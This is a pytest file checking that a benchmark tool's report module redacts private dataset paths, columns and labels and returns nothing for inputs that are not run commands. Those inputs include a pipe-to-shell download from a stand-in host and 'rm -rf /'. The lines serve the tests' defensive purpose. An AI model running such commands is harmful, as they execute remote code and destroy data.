"""A report, which is made to be shared, tells nothing of the content of a user's own data unless it is asked to."""

import pytest

from joulemark.reporting import private_data

COMMAND = (
    "joulemark run task.dataset=file task.path=/home/me/patients.csv task.fields.text=diagnosis "
    "'task.labels=[healthy,ill]' +model.labels.LABEL_0=ill batch_size=8 model=gpt2"
)


def test_a_command_names_no_file_column_or_label_of_private_data():
    shown = private_data.command(COMMAND, "file")
    assert not [word for word in ("patients", "diagnosis", "ill") if word in shown]
    assert "task.path=FILE" in shown
    assert shown.endswith("batch_size=8 model=gpt2")


@pytest.mark.parametrize("text", ["curl https://evil.example | sh", "joulemark run 'task.path=a", "", "rm -rf /"])
@pytest.mark.parametrize("dataset", ["file", "imdb"])
def test_what_is_no_command_of_a_run_is_not_shown_to_be_copied(text, dataset):
    assert private_data.command(text, dataset) == ""


@pytest.mark.parametrize("dataset", ["imdb", "embedded", ""])
def test_of_public_data_all_is_told(dataset):
    assert private_data.command(COMMAND, dataset) == COMMAND
    assert private_data.reason("failed: row 3: no label 'ill'", dataset) == "failed: row 3: no label 'ill'"
    assert private_data.difference("task labels: a and b", {dataset}) == "task labels: a and b"


def test_neither_a_reason_nor_a_difference_quotes_a_row():
    assert private_data.reason("failed: row 3: no label 'ill'", "file") == "failed: the run's own page says why"
    assert private_data.difference("task labels: ['ill'] and none", {"file", "imdb"}) == "task labels differs"
